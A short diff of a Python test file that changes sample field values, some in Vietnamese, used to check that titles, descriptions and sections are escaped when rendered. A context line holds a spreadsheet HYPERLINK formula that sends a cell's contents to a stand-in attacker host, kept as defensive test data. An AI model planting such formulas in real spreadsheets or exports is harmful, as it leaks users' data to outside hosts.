@@ -341,10 +341,11 @@ def test_source_faults_make_the_checks_fail_naming_each_file(tmp_path: Path) -> 
 
 # --- Allowed values, escaped where they land --------------------------------------------------
 
-TITLE = "Nhiệm vụ \"A\" & 'B' < C > D"
+# Allowed (no tag), and each would be shown wrong if printed unescaped: "&lt;b&gt;" as "<b>".
+TITLE = "Nhiệm vụ \"A\" & 'B' < C > D &lt;b&gt;"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
 DESCRIPTION = 'Nói "không" với bạo lực & an toàn <16 tuổi'
-SECTION = 'Tasks & "duties" > 3 < 4'
+SECTION = 'Tasks & "duties" > 3 < 4 &lt;i&gt;'
 
 
 def set_field(page: Path, name: str, value: str) -> None:
